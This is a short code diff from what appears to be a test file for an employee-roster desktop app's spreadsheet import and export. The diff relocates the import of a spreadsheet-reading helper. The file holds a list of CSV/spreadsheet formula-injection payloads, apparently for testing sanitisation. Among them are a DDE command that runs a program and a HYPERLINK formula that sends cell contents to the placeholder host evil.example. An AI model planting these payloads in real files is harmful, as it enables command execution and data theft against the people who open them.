@@ -12,12 +12,12 @@ import python_calamine
 
 from ikrar_desktop.domain.employee import EmployeeDraft
 from ikrar_desktop.exchange import columns as cols
-from ikrar_desktop.exchange.sandbox import read_spreadsheet_inprocess
 from ikrar_desktop.services import roster_export as rx
 from ikrar_desktop.services.registry import add_employee
 from ikrar_desktop.services.roster_import import apply_import, plan_import
 from ikrar_desktop.store.employees import EmployeeFilter
 from ikrar_desktop.store.schema import open_database
+from inprocess_read import read_spreadsheet_inprocess
 
 PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1",
             '=HYPERLINK("http://evil.example/?"&A1,"klik")', "\r=1+1", "\n=1+1"]  # fmt: skip
